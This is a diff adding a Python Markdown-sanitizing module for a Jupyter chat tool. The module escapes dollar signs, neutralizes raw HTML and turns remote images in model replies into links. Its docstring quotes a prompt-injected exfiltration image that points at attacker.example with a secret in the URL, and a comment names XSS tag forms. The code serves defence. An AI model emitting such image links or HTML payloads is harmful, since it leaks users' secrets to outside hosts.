@@ -1,0 +1,523 @@
+"""The Markdown ipychat hands to the front end: dollar signs, code, raw HTML and images.
+
+JupyterLab typesets `$…$` in Markdown output as LaTeX, renders the raw HTML of outputs the
+user produced (they are trusted), and fetches every image a Markdown output names. So:
+
+- ipychat's own lines (footers, usage, budgets, estimates, map summaries) go through
+  `escape_dollars`: every `$` outside code shows as written ("spent $0.0003 of $0.01").
+- Model replies, and prompts shown back, go through `reply_markdown`: currency (`$` before a
+  digit) shows as written while real LaTeX (`$x^2$`, `$$…$$`, `\\(…\\)`) is kept, the rule
+  chat UIs use; raw HTML shows as text (a few attribute-free formatting tags excepted);
+  remote images become links unless `allow_remote_images(True)` (a prompt-injected
+  `![x](https://attacker.example/?d=SECRET)` would otherwise be fetched the moment the reply
+  is shown); an unclosed code fence is closed, so it cannot swallow what follows.
+
+Nothing inside code spans or fenced/indented code blocks is ever changed.
+Pure: standard library only, no I/O.
+"""
+
+from __future__ import annotations
+
+import bisect
+import html
+import re
+import threading
+from collections.abc import Callable
+from urllib.parse import urlsplit
+
+__all__ = [
+    "LITERAL_DOLLAR",
+    "allow_remote_images",
+    "close_fences",
+    "code_regions",
+    "escape_dollars",
+    "fenced",
+    "history_markdown",
+    "prompt_markdown",
+    "remote_images_allowed",
+    "reply_markdown",
+    "turn_markdown",
+]
+
+_policy_lock = threading.Lock()
+_remote_images = False
+
+
+def allow_remote_images(allow: bool) -> None:
+    """Show remote images in replies (`%config ChatMagics.allow_remote_images = True`).
+
+    Off by default: a reply is text the model wrote, possibly steered by a prompt injection,
+    and showing an image means the browser requests its URL (and whatever data it carries).
+    """
+    global _remote_images
+    with _policy_lock:
+        _remote_images = bool(allow)
+
+
+def remote_images_allowed() -> bool:
+    return _remote_images
+
+
+# ----- where code is --------------------------------------------------------------------------
+
+# Fences may sit inside block quotes and list items (any indentation), as replies write them.
+_FENCE_OPEN = re.compile(r"(?:[ \t]*>)*[ \t]*(?P<fence>`{3,}|~{3,})(?P<info>[^\n]*)")
+_FENCE_CLOSE = re.compile(r"(?:[ \t]*>)*[ \t]*(?P<fence>`{3,}|~{3,})[ \t]*")
+_LIST_ITEM = re.compile(r"[ \t]*(?:[-*+]|\d{1,9}[.)])(?:[ \t]|$)")
+_BACKTICKS = re.compile(r"`+")
+_BLANK_LINE = re.compile(r"\n[ \t]*\n")
+
+
+class _Code:
+    """Code regions of a text: fenced and indented blocks, then inline code spans."""
+
+    def __init__(self, text: str) -> None:
+        self.open_fence: str | None = None  # the fence a text ends inside, if it does
+        blocks = self._blocks(text)
+        regions: list[tuple[int, int]] = []
+        last = 0
+        for start, end in blocks:
+            regions.extend(_spans(text, last, start))
+            regions.append((start, end))
+            last = end
+        regions.extend(_spans(text, last, len(text)))
+        self.regions = regions
+        self._starts = [s for s, _ in regions]
+
+    def _blocks(self, text: str) -> list[tuple[int, int]]:
+        blocks: list[tuple[int, int]] = []
+        fence: tuple[str, int, int] | None = None  # (character, length, start)
+        code_start: int | None = None  # an indented code block in progress
+        previous_blank, in_list = True, False
+        pos = 0
+        for line in text.splitlines(keepends=True):
+            body = line.rstrip("\r\n")
+            blank = not body.strip()
+            if fence is not None:
+                close = _FENCE_CLOSE.fullmatch(body)
+                if close and close["fence"][0] == fence[0] and len(close["fence"]) >= fence[1]:
+                    blocks.append((fence[2], pos + len(body)))
+                    fence = None
+            else:
+                opening = _FENCE_OPEN.fullmatch(body)
+                if opening and not (opening["fence"][0] == "`" and "`" in opening["info"]):
+                    if code_start is not None:
+                        blocks.append((code_start, pos))
+                        code_start = None
+                    fence = (opening["fence"][0], len(opening["fence"]), pos)
+                elif not blank and _indent(body) >= 4 and not in_list:
+                    if code_start is None and previous_blank:
+                        code_start = pos
+                elif not blank:
+                    if code_start is not None:
+                        blocks.append((code_start, pos))
+                        code_start = None
+                    if _LIST_ITEM.match(body):
+                        in_list = True
+                    elif _indent(body) == 0:
+                        in_list = False
+            previous_blank = blank and (code_start is None or previous_blank)
+            pos += len(line)
+        if fence is not None:
+            blocks.append((fence[2], len(text)))
+            self.open_fence = fence[0] * fence[1]
+        if code_start is not None:
+            blocks.append((code_start, len(text)))
+        return blocks
+
+    def contains(self, pos: int) -> bool:
+        i = bisect.bisect_right(self._starts, pos) - 1
+        return i >= 0 and pos < self.regions[i][1]
+
+
+def _indent(line: str) -> int:
+    return len(line.expandtabs(4)) - len(line.expandtabs(4).lstrip(" "))
+
+
+def _spans(text: str, start: int, end: int) -> list[tuple[int, int]]:
+    """Inline code spans in text[start:end]: a backtick run closed by a run of equal length
+    in the same paragraph (CommonMark 6.1)."""
+    found: list[tuple[int, int]] = []
+    pos = start
+    while True:
+        run = _BACKTICKS.search(text, pos, end)
+        if run is None:
+            return found
+        if _escaped(text, run.start()):
+            pos = run.start() + 1  # `\`` is a literal backtick; the rest may open a span
+            continue
+        stop = end
+        blank = _BLANK_LINE.search(text, run.end(), end)
+        if blank is not None:
+            stop = blank.start()
+        closer = _BACKTICKS.search(text, run.end(), stop)
+        while closer is not None and len(closer.group()) != len(run.group()):
+            closer = _BACKTICKS.search(text, closer.end(), stop)
+        if closer is None:
+            pos = run.end()
+        else:
+            found.append((run.start(), closer.end()))
+            pos = closer.end()
+
+
+def _escaped(text: str, pos: int) -> bool:
+    """Whether text[pos] is backslash-escaped (an odd number of backslashes before it)."""
+    n = 0
+    while pos - n - 1 >= 0 and text[pos - n - 1] == "\\":
+        n += 1
+    return n % 2 == 1
+
+
+def code_regions(text: str) -> list[tuple[int, int]]:
+    """(start, end) of every code block and code span of `text`, in order."""
+    return list(_Code(text).regions)
+
+
+# ----- fences ---------------------------------------------------------------------------------
+
+
+def close_fences(text: str) -> str:
+    """`text` with its last code fence closed if it was left open (a reply cut mid-block, or
+    streaming), so the block cannot swallow the footer and the turns after it."""
+    fence = _Code(text).open_fence
+    if fence is None:
+        return text
+    return text + ("" if text.endswith("\n") else "\n") + fence
+
+
+def fenced(text: str, info: str = "") -> str:
+    """`text` as a fenced code block whose fence is longer than any backtick run inside."""
+    longest = max((len(m.group()) for m in _BACKTICKS.finditer(text)), default=0)
+    fence = "`" * max(3, longest + 1)
+    return f"{fence}{info}\n{text}\n{fence}"
+
+
+# ----- dollar signs ---------------------------------------------------------------------------
+
+
+# How a `$` is shown as written. JupyterLab 4 renders Markdown output in three steps: it
+# sets `$…$` aside from the Markdown parser (its own splitter, which skips `\$`), parses the
+# rest (which turns `\$` into `$`), then MathJax typesets the page's text, pairing any two
+# `$` it finds. So a plain `\$` is typeset anyway (seen in the browser test); a `\$` inside
+# its own element is not: MathJax does not pair a `$` across element boundaries. Other
+# CommonMark renderers (nbconvert, GitHub) show the same thing: a `$`.
+LITERAL_DOLLAR = "<span>\\$</span>"
+
+
+# An amount as ipychat writes it (pricing.format_usd): `$0.00028`, `$1,234.50`, `$5e-05`.
+_AMOUNT = re.compile(r"\$\d[\d,]*(?:\.\d+)?(?:e[-+]?\d+)?")
+
+
+def escape_dollars(text: str) -> str:
+    """ipychat's own Markdown: every `$` outside code is shown as written.
+
+    Amounts go into code spans, like the footers: they read the same in JupyterLab and in a
+    Markdown export read as text (`jupyter nbconvert --to markdown`). Any other `$` (a system
+    prompt shown back, say) becomes LITERAL_DOLLAR.
+    """
+    code = _Code(text)
+    out, last = [], 0
+    for m in _AMOUNT.finditer(text):
+        if code.contains(m.start()) or _escaped(text, m.start()):
+            continue
+        out.append(text[last : m.start()])
+        out.append(f"`{m.group()}`")
+        last = m.end()
+    out.append(text[last:])
+    text = "".join(out)
+    code = _Code(text)
+    return _literal_dollars(
+        text, [i for i, c in enumerate(text) if c == "$" and not code.contains(i)]
+    )
+
+
+def _literal_dollars(text: str, positions: list[int]) -> str:
+    """`text` with the `$` (or `\\$`) at each position replaced by LITERAL_DOLLAR."""
+    if not positions:
+        return text
+    out, last = [], 0
+    for pos in positions:
+        start = pos - 1 if _escaped(text, pos) else pos
+        out.append(text[last:start])
+        out.append(LITERAL_DOLLAR)
+        last = pos + 1
+    out.append(text[last:])
+    return "".join(out)
+
+
+_CURRENCY = re.compile(r"\$(?=\.?\d)")
+
+
+def _currency(text: str) -> str:
+    """Show the `$` of currency as written; keep LaTeX.
+
+    A `$` before a digit ("$1,200", "$.50") is currency unless it opens inline math that
+    closes on a `$` which, as in Pandoc's rule, follows a non-space character, is not
+    followed by a digit and comes before the paragraph ends with no other `$` between:
+    `$2^n$` stays math; "$1,200 in January to $1,850" does not pair (the second `$` follows a
+    space), so both show as written. `$$…$$` display math is kept whole. A `\\$` the model
+    escaped itself is meant as text, and shown as such.
+    """
+    code = _Code(text)
+    every = [i for i, c in enumerate(text) if c == "$" and not code.contains(i)]
+    dollars = [i for i in every if not _escaped(text, i)]
+    literal: list[int] = []
+    math: list[tuple[int, int]] = []
+    i = 0
+    while i < len(dollars):
+        pos = dollars[i]
+        if i + 1 < len(dollars) and dollars[i + 1] == pos + 1:  # `$$`: display math
+            j = i + 2
+            while j + 1 < len(dollars) and dollars[j + 1] != dollars[j] + 1:
+                j += 1
+            closed = j + 1 < len(dollars) and not _BLANK_LINE.search(text, pos, dollars[j])
+            if closed:
+                math.append((pos, dollars[j + 1]))
+            i = j + 2 if closed else i + 2  # the whole block, or just an unclosed `$$`
+            continue
+        if i + 1 < len(dollars) and _closes(text, pos, dollars[i + 1], dollars):
+            math.append((pos, dollars[i + 1]))
+            i += 2  # a math span (whatever its first character): both dollars stay
+            continue
+        if _CURRENCY.match(text, pos):
+            literal.append(pos)
+        i += 1
+    escaped = [i for i in every if _escaped(text, i) and not any(a < i < b for a, b in math)]
+    return _literal_dollars(text, sorted(literal + escaped))
+
+
+def _closes(text: str, start: int, end: int, dollars: list[int]) -> bool:
+    """Whether the `$` at `end` closes inline math opened by the `$` at `start`."""
+    if end + 1 < len(text) and text[end + 1] == "$":
+        return False  # the start of `$$`
+    if start + 1 >= len(text) or text[start + 1].isspace():
+        return False
+    if text[end - 1].isspace() or (end + 1 < len(text) and text[end + 1].isdigit()):
+        return False
+    return _BLANK_LINE.search(text, start, end) is None
+
+
+# ----- raw HTML and images --------------------------------------------------------------------
+
+# CommonMark's raw HTML (6.6): open and closing tags, comments, processing instructions,
+# declarations and CDATA.
+_ATTRIBUTE = r"""\s+[A-Za-z_:][\w.:-]*(?:\s*=\s*(?:[^\s"'=<>`]+|'[^']*'|"[^"]*"))?"""
+_HTML = re.compile(
+    rf"<!--.*?-->|<\?.*?\?>|<![A-Za-z][^>]*>|<!\[CDATA\[.*?\]\]>"
+    rf"|<(?P<close>/)?(?P<tag>[A-Za-z][A-Za-z0-9-]*)(?P<attrs>(?:{_ATTRIBUTE})*)\s*/?>"
+    # Not CommonMark HTML, but a browser's: `<img/src=…>`, `<svg/onload=…>`.
+    r"|<[A-Za-z][A-Za-z0-9-]*/[^<>]+>",
+    re.S,
+)
+_ATTR_VALUE = re.compile(r"""([A-Za-z_:][\w.:-]*)(?:\s*=\s*([^\s"'=<>`]+|'[^']*'|"[^"]*"))?""")
+# Tags that only format text: shown as HTML when written without attributes.
+_FORMATTING_TAGS = frozenset(
+    {
+        *("b", "i", "em", "strong", "u", "s", "del", "ins", "sub", "sup", "br", "hr", "p"),
+        *("small", "mark", "kbd", "code", "pre", "q", "blockquote", "details", "summary"),
+        *("ul", "ol", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th", "td"),
+        *("h1", "h2", "h3", "h4", "h5", "h6"),
+    }
+)
+
+
+def _is_remote(url: str) -> bool:
+    """Whether loading `url` as an image would leave the notebook server: anything with a
+    scheme but `data:image/…` and `attachment:`, and scheme-relative `//host/…`."""
+    target = html.unescape(url).strip().strip("<>").strip()
+    target = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", target)  # Markdown's backslash escapes
+    target = "".join(ch for ch in target if ch >= " " and ch != "\x7f").replace("\\", "/")
+    lowered = target.lower()
+    if lowered.startswith("//"):
+        return True
+    scheme = re.match(r"([a-z][a-z0-9+.-]*):", lowered)
+    if scheme is None:
+        return False  # a path on the notebook server (same origin)
+    if scheme.group(1) == "data":
+        return not lowered.startswith("data:image/")
+    return scheme.group(1) != "attachment"
+
+
+def _host(url: str) -> str:
+    try:
+        target = html.unescape(url).strip().strip("<>").replace("\\", "/")
+        return urlsplit(target if "//" in target else "//" + target).hostname or ""
+    except ValueError:
+        return ""
+
+
+def _link_label(alt: str, url: str) -> str:
+    host = _host(url)
+    alt = alt.strip()
+    label = f"image: {alt}" if alt else "image"
+    return f"{label} ({host})" if host else label
+
+
+def _html(text: str, allow_images: bool) -> str:
+    """Raw HTML shown as text, except attribute-free formatting tags; `<img>` as Markdown."""
+    code = _Code(text)
+    out, last = [], 0
+    for m in _HTML.finditer(text):
+        if code.contains(m.start()):
+            continue
+        out.append(text[last : m.start()])
+        last = m.end()
+        tag = (m["tag"] or "").lower()
+        if tag in _FORMATTING_TAGS and not (m["attrs"] or "").strip():
+            out.append(m.group())
+        elif tag == "img" and not m["close"]:
+            out.append(_img_markdown(m["attrs"] or "", allow_images) or html.escape(m.group()))
+        else:
+            out.append(html.escape(m.group(), quote=False))
+    out.append(text[last:])
+    return "".join(out)
+
+
+def _img_markdown(attrs: str, allow_images: bool) -> str | None:
+    """An `<img>` tag as a Markdown image (src and alt only), or a link if it is remote."""
+    values: dict[str, str] = {}
+    for name, value in _ATTR_VALUE.findall(attrs):
+        values[name.lower()] = html.unescape(value.strip("'\"")) if value else ""
+    src = values.get("src", "")
+    sources = [src] + [
+        part.split()[0] for part in values.get("srcset", "").split(",") if part.split()
+    ]
+    if not src:
+        return None
+    alt = re.sub(r"[\[\]\n]", " ", values.get("alt", "")).strip()
+    destination = "<" + src.replace("<", "%3C").replace(">", "%3E") + ">"
+    if not allow_images and any(_is_remote(s) for s in sources if s):
+        return f"[{_link_label(alt, src)}]({destination})"
+    return f"![{alt}]({destination})"
+
+
+_DEFINITION = re.compile(
+    r"^[ ]{0,3}\[(?P<label>[^\]\n]+)\]:[ \t]*\n?[ \t]*(?P<url><[^>\n]*>|\S+)", re.M
+)
+
+
+def _normalise_label(label: str) -> str:
+    return " ".join(label.split()).casefold()
+
+
+def _images(text: str, allow_images: bool) -> str:
+    """Remote Markdown images (inline, full, collapsed and shortcut references) as links."""
+    if allow_images or "![" not in text:
+        return text
+    code = _Code(text)
+    definitions: dict[str, str] = {}
+    for d in _DEFINITION.finditer(text):
+        if not code.contains(d.start("label")):
+            definitions.setdefault(_normalise_label(d["label"]), d["url"])
+    out, last, pos = [], 0, 0
+    while True:
+        bang = text.find("![", pos)
+        if bang < 0:
+            break
+        pos = bang + 2
+        if code.contains(bang) or _escaped(text, bang):
+            continue
+        parsed = _parse_image(text, bang, definitions)
+        if parsed is None:
+            continue
+        end, alt, url, rest = parsed
+        if not _is_remote(url):
+            continue
+        out.append(text[last:bang])
+        out.append(f"[{_link_label(alt, url)}]{rest}")
+        last = pos = end
+    out.append(text[last:])
+    return "".join(out)
+
+
+def _parse_image(
+    text: str, bang: int, definitions: dict[str, str]
+) -> tuple[int, str, str, str] | None:
+    """(end, alt, url, the syntax after the alt text) of the image at text[bang], if it is one."""
+    close = _matching(text, bang + 1, "[", "]")
+    if close is None:
+        return None
+    alt = text[bang + 2 : close]
+    after = close + 1
+    if text.startswith("(", after):
+        end = _matching(text, after, "(", ")")
+        if end is None:
+            return None
+        inner = text[after + 1 : end].strip()
+        url = inner[1 : inner.find(">")] if inner.startswith("<") else (inner.split() or [""])[0]
+        return end + 1, alt, url, text[after : end + 1]
+    if text.startswith("[", after):
+        end = text.find("]", after)
+        if end < 0 or "\n\n" in text[after:end]:
+            return None
+        label = text[after + 1 : end] or alt
+        defined = definitions.get(_normalise_label(label))
+        return None if defined is None else (end + 1, alt, defined, f"[{label}]")
+    defined = definitions.get(_normalise_label(alt))  # shortcut reference `![alt]`
+    return None if defined is None else (after, alt, defined, f"[{alt}]")
+
+
+def _matching(text: str, start: int, opening: str, closing: str) -> int | None:
+    """The index of the bracket closing text[start], skipping escaped and nested ones; None
+    if the paragraph ends first."""
+    depth = 0
+    i = start
+    while i < len(text):
+        ch = text[i]
+        if ch == "\\":
+            i += 2
+            continue
+        if ch == opening:
+            depth += 1
+        elif ch == closing:
+            depth -= 1
+            if depth == 0:
+                return i
+        elif ch == "\n" and text.startswith("\n", i + 1):
+            return None
+        i += 1
+    return None
+
+
+# ----- the two entry points for user-facing text ------------------------------------------------
+
+
+def reply_markdown(text: str, *, allow_images: bool | None = None) -> str:
+    """A model reply as Markdown that shows what was written and fetches nothing remote."""
+    allow = remote_images_allowed() if allow_images is None else allow_images
+    steps: list[Callable[[str], str]] = [
+        lambda t: _images(t, allow),
+        lambda t: _html(t, allow),
+        _currency,
+        close_fences,
+    ]
+    for step in steps:
+        text = step(text)
+    return text
+
+
+def prompt_markdown(text: str, *, allow_images: bool | None = None) -> str:
+    """A prompt shown back (panel, `%chat history`): quoted, line breaks kept, and as safe as
+    a reply (a prompt can hold pasted or interpolated text)."""
+    body = reply_markdown(text, allow_images=allow_images)
+    code = _Code(body)
+    lines, pos = [], 0
+    raw = body.split("\n")
+    for n, line in enumerate(raw):
+        following = raw[n + 1] if n + 1 < len(raw) else ""
+        hard_break = line.strip() and following.strip() and not code.contains(pos + len(line))
+        lines.append("> " + line + ("  " if hard_break else ""))
+        pos += len(line) + 1
+    return "\n".join(lines)
+
+
+def turn_markdown(role: str, content: str) -> str:
+    """One message of a thread for `%chat history`: the role on its own line, then the
+    message as its own blocks (a reply's list or fence never runs into the label)."""
+    body = prompt_markdown(content) if role == "user" else reply_markdown(content)
+    return f"**{role}:**\n\n{body or '*(no text)*'}"
+
+
+def history_markdown(messages: list[dict[str, object]]) -> str:
+    """A thread as Markdown, each turn rendered on its own (`turn_markdown`)."""
+    return "\n\n".join(turn_markdown(str(m["role"]), str(m.get("content") or "")) for m in messages)
